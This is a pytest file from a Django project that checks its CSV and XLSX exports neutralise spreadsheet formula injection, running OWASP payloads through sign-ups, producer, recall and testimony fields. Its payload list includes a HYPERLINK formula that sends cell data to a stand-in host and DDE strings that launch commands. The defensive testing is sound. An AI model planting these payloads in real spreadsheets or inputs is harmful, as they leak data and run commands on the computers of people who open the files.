"""Safe spreadsheets (issue 17): one CSV writer and one XLSX writer in `core/exports.py`, used by every export.

The OWASP "CSV injection" payloads go in through a public sign-up (and a partner's, a farm's, a recall's and a
testimony's texts) and must come out of every CSV and XLSX export as plain text: no formula when the workbook is
opened with openpyxl, no CSV cell that starts with a formula character, every CSV in the French format.
"""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from conserverie.core.exports import (
    FORMULA_STARTS,
    XlsxBook,
    csv_bytes,
    csv_cell,
    neutralise,
    restore,
    xlsx_bytes,
)
from conserverie.distribution.models import Distribution
from conserverie.distribution.services import LineSpec, distribution_record
from conserverie.impact.periods import Period
from conserverie.impact.reports.content import report_data
from conserverie.impact.reports.xlsx import report_xlsx
from conserverie.people.models import Participant
from conserverie.producers.services import producer_create
from conserverie.production.services import lot_recall
from conserverie.reporting.distribution_tables import REPORTS

from ..conftest import DAY
from ..impact.voices_data import add_testimony, survey_world
from ..production.scenario import released
from ..workshops.public_data import future_workshop

# The payloads of OWASP's "CSV Injection" page and of the attack that found the flaw (issue 17).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&C2,"Ouvrir")',
    "=cmd|' /C calc'!A0",
    "+33+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
TYPED = {p.strip() for p in PAYLOADS}  # what a form keeps of them (leading white space dropped)


def dangerous(text: str) -> bool:
    """A text a spreadsheet would run: it starts with a formula character (a plain number is harmless)."""
    if not isinstance(text, str):
        return False
    return text.startswith(FORMULA_STARTS) and not text.lstrip("+-").replace(",", "").isdigit()


def csv_cells(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode()), "a French CSV starts with a BOM"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_safe_csv(content: bytes) -> list[list[str]]:
    rows = csv_cells(content)
    assert len(rows[0]) > 1, "semicolon-separated: the header has several columns"
    bad = [cell for row in rows for cell in row if dangerous(cell) or cell.startswith("=")]
    assert not bad, bad
    return rows


def assert_safe_xlsx(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, formulas
    bad = [cell.value for cell in cells if dangerous(cell.value)]
    assert not bad, bad
    return cells


# --- The writers ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_a_quote_and_restore_gives_the_text_back(payload):
    safe = neutralise(payload)
    assert safe == "'" + payload
    assert restore(safe) == payload


@pytest.mark.parametrize("text", ["Aïcha", "", "-12", "+5", "3,5", "-0.25", "06 12 34 56 78", "'déjà cité'"])
def test_harmless_texts_are_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


def test_csv_cells_are_in_the_french_format():
    assert csv_cell(Decimal("12.50")) == "12,50"
    assert csv_cell(2.5) == "2,5"
    assert csv_cell(-3) == "-3"
    assert csv_cell(date(2026, 6, 10)) == "10/06/2026"
    assert csv_cell(timezone.make_aware(datetime(2026, 6, 10, 14, 5)))  # noqa: DTZ001 == "10/06/2026 14:05"
    assert csv_cell(True) == "oui"
    assert csv_cell(None) == ""
    assert csv_cell("=1+1") == "'=1+1"
    content = csv_bytes(["nom", "montant", "jour"], [["=1+1", Decimal("1.5"), date(2026, 1, 2)]])
    assert content == "\ufeffnom;montant;jour\r\n'=1+1;1,5;02/01/2026\r\n".encode()


def test_xlsx_writes_numbers_and_days_as_typed_cells_and_texts_as_texts():
    book = XlsxBook()
    rows = [[p, Decimal("1.25"), date(2026, 6, 10), 3] for p in PAYLOADS]
    book.sheet("Essai: [1]/2", ["nom", "kg", "jour", "n"], rows)
    cells = assert_safe_xlsx(book.bytes())
    sheet = load_workbook(io.BytesIO(book.bytes())).active
    assert sheet.title == "Essai   1  2"
    assert [c.value for c in sheet[2]][1:] == [1.25, datetime(2026, 6, 10), 3]  # noqa: DTZ001
    assert sheet["B2"].data_type == "n"
    assert sheet["C2"].number_format == "DD/MM/YYYY"
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(PAYLOADS))] == ["'" + p for p in PAYLOADS]
    assert len(cells) == 4 * (len(PAYLOADS) + 1)
    assert_safe_xlsx(xlsx_bytes("une", ["a"], [["@x"]]))


# --- The payloads through the platform ------------------------------------------------------------------------------


@pytest.fixture
def poisoned(client, chain, coordinator):
    """The payloads as first names of public sign-ups, a partner's name, a farm's name, a recall's reason and a
    testimony; the sign-ups get jars of a lot that is then recalled."""
    workshop = future_workshop(chain, capacity=40)
    for index, payload in enumerate(PAYLOADS):
        data = {
            "first_name": payload,
            "email": f"p{index}@example.org",
            "household_size": "1",
            "party_size": "1",
            "consent": "on",
            "website": "",
        }
        response = client.post(f"/ateliers/{workshop.pk}/", data)
        assert response.status_code == 302, response.content.decode()[:500]
    participants = list(Participant.objects.filter(first_name__in=TYPED))
    assert len(participants) == len(PAYLOADS)
    lot = released(chain, [(chain.raw, "10")], jars=40)
    for participant in participants:
        distribution_record(
            actor=chain.actor,
            territory=chain.territory,
            kind=Distribution.Kind.PARTICIPANT,
            location=chain.truck,
            day=DAY,
            participant=participant,
            lines=[LineSpec(lot, chain.jar, 1, Decimal("2.00"))],
        )
    distribution_record(
        actor=chain.actor,
        territory=chain.territory,
        kind=Distribution.Kind.PARTNER,
        location=chain.truck,
        day=DAY,
        partner=PAYLOADS[0],
        lines=[LineSpec(lot, chain.jar, 1, Decimal("2.00"))],
    )
    producer_create(
        actor=coordinator,
        territory=chain.territory,
        name=PAYLOADS[1],
        commune=PAYLOADS[4],
        lat=Decimal("45.04"),
        lon=Decimal("5.05"),
    )
    lot_recall(actor=coordinator, lot=lot, reason=PAYLOADS[3])
    world = survey_world(chain.territory, coordinator)
    add_testimony(chain.territory, coordinator, world.dimensions[:1], text=PAYLOADS[0], selected=True)
    return lot


def test_no_export_holds_a_formula(client, chain, coordinator, poisoned):
    client.force_login(coordinator)
    slug = chain.territory.slug
    lot = poisoned

    contacts = client.get(f"/t/{slug}/lots/{lot.code}/rappel/contacts.csv")
    rows = assert_safe_csv(contacts.content)
    names = {row[1] for row in rows[1:]}
    assert {"'" + p for p in TYPED} <= names  # every payload is there, shown as typed
    assert all(row[7] == DAY.strftime("%d/%m/%Y") for row in rows[1:])

    period = {"from": DAY.replace(month=1, day=1).isoformat(), "to": DAY.replace(month=12, day=31).isoformat()}
    for key in REPORTS:
        assert_safe_csv(client.get(f"/t/{slug}/cessions/bilan/{key}.csv", period).getvalue())
        assert_safe_xlsx(client.get(f"/t/{slug}/cessions/bilan/{key}.xlsx", period).content)

    producers_csv = client.get(f"/t/{slug}/producteurs/export.csv")
    assert "'" + PAYLOADS[1] in {row[0] for row in assert_safe_csv(producers_csv.content)}
    producers_xlsx = assert_safe_xlsx(client.get(f"/t/{slug}/producteurs/export.xlsx").content)
    assert "'" + PAYLOADS[1] in {c.value for c in producers_xlsx}

    register = assert_safe_xlsx(client.get(f"/t/{slug}/lots/registre.xlsx", period).content)
    assert any(isinstance(c.value, str) and PAYLOADS[3] in c.value for c in register)

    funders = client.get(reverse("surveys:report_xlsx", args=[slug, "activite"]), {"periode": "2026", "pour": "cis"})
    assert funders.status_code == 200
    assert_safe_xlsx(funders.content)
    assert_safe_xlsx(report_xlsx(report_data(chain.territory, Period.year(2026), "utilite-sociale")))


def test_a_producers_export_with_payloads_imports_back_as_typed(chain, coordinator, poisoned):
    from conserverie.producers import imports
    from conserverie.producers.models import Producer

    farm = Producer.objects.get(name=PAYLOADS[1])
    for content in (imports.export_csv([farm]), imports.export_xlsx([farm])):
        upload = io.BytesIO(content)
        upload.size = len(content)
        rows = imports.read_file(upload)
        assert rows[0].values["nom"] == PAYLOADS[1]
        assert rows[0].values["commune"] == PAYLOADS[4]


def test_a_streamed_csv_is_the_same_file_in_pieces_and_reads_in_the_views_scope(chain, other_chain):
    """Streamed downloads (issue 20): the pieces make the file `csv_bytes` writes, whatever their size, and a lazy
    queryset is read while the response is sent, in the territory scope the view had, never another's."""
    from conserverie.core.exports import csv_chunks, csv_response
    from conserverie.core.scoping import ScopeError, get_scope, in_current_scope, no_territory, territory_scope
    from conserverie.producers.models import Producer

    rows = [["=1+1", Decimal("1.5"), date(2026, 1, 2)], ["b", 2, None], ["c", 3, True]]
    whole = csv_bytes(["nom", "montant", "jour"], rows)
    for size in (1, 2, 3, 4):
        assert b"".join(csv_chunks(["nom", "montant", "jour"], rows, rows_per_chunk=size)) == whole
    with no_territory():
        with territory_scope(chain.territory):
            farms = Producer.objects.order_by("name").values_list("name").iterator(chunk_size=1)
            response = csv_response("fermes", ["nom"], farms)
        assert response.streaming
        with pytest.raises(ScopeError):
            list(Producer.objects.all())  # the view's scope is gone when the response is sent...
        names = {row[0] for row in csv_cells(response.getvalue())[1:]}  # ...the rows are read in it all the same
        assert get_scope() == {"_enabled": True}  # and left behind
        with territory_scope(chain.territory):
            pieces = in_current_scope(iter([b"a", b"b"]))
        assert next(pieces) == b"a"
        pieces.close()  # a download dropped half-way: the scope is left behind all the same
        assert get_scope() == {"_enabled": True}
    assert names == set(Producer.objects.filter(territory=chain.territory).values_list("name", flat=True))
    assert chain.farm.name in names
    assert other_chain.farm.name not in names
